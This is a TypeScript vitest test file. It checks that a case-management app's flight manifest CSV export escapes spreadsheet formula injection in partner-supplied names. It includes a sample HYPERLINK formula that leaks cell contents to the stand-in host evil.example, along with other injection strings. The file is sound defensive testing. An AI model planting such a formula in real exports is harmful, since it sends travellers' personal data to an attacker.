import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { cases } from '../../modules/cases/schema.js';
import { amsIstEbl } from '../../modules/movements/movements-test-support.js';
import { createTestPartner, issueKey, referralBody } from '../../modules/partners/partners-test-support.js';
import { personDocuments } from '../../modules/persons/schema.js';
import { buildMission, type TestMission } from '../../test-support/build-mission.js';
import { startTestApp, type TestApp } from '../../test-support/test-app.js';
import { newId } from '../ids.js';
import { safeCell } from './safe-cell.js';

let t: TestApp;
let mission: TestMission;

beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => {
  await t.close();
});
beforeEach(async () => {
  mission = await buildMission(t.database.db);
});

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

describe('formula injection in exports', () => {
  it('writes a name sent by a partner as =HYPERLINK(...) into the manifest CSV as text', async () => {
    const { admin, partner } = await createTestPartner(t, mission);
    const key = await issueKey(t, admin, partner.id, ['referrals:write']);
    const body = referralBody('REF-FORMULA');
    body.persons[0]!.familyName = FORMULA;
    body.persons[0]!.givenName = '@SUM(1+1)';
    const referral = await key.post('/api/v1/referrals', body);
    expect(referral.statusCode, referral.body).toBe(201);
    const { case: kase } = referral.json() as { case: { id: string } };
    // The partner is not told the person's id (no sharing consent); the mission's staff see it.
    const detail = await admin.get(`/api/v1/cases/${kase.id}`);
    const persons = detail.json().case.persons as { id: string }[];
    // The case has reached travel documents and the traveller holds a passport.
    const db = t.database.db;
    await db
      .update(cases)
      .set({ status: 'travel_documents' })
      .where(and(eq(cases.missionId, mission.missionId), eq(cases.id, kase.id)));
    await db.insert(personDocuments).values({
      missionId: mission.missionId,
      id: newId(),
      personId: persons[0]!.id,
      kind: 'passport',
      number: 'P1234567',
      issuingCountry: 'ER',
      validUntil: '2030-12-31',
      createdAt: new Date(),
    });
    const movements = await t.as(mission.users.movements);
    const held = await movements.post('/api/v1/bookings', { caseId: kase.id, ...amsIstEbl() });
    expect(held.statusCode, held.body).toBe(201);
    expect((await movements.post(`/api/v1/bookings/${held.json().booking.id}/confirm`)).statusCode).toBe(200);

    const csv = await movements.get('/api/v1/manifests?flight=TK1952&date=2025-07-01&format=csv');
    expect(csv.statusCode, csv.body).toBe(200);
    const [line] = parse(csv.body, { columns: true }) as Record<string, string>[];
    expect(line!['Family name']).toBe(`'${FORMULA}`);
    expect(line!['Given name']).toBe("'@SUM(1+1)");
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+31 6 1234', "'+31 6 1234"],
    ['-cmd', "'-cmd"],
    ['@A1', "'@A1"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['-12.50', '-12.50'],
    ['+3', '+3'],
    ['Amina', 'Amina'],
    [null, null],
    [-4, -4],
  ])('writes %j as %j', (value, expected) => {
    expect(safeCell(value)).toBe(expected);
  });
});
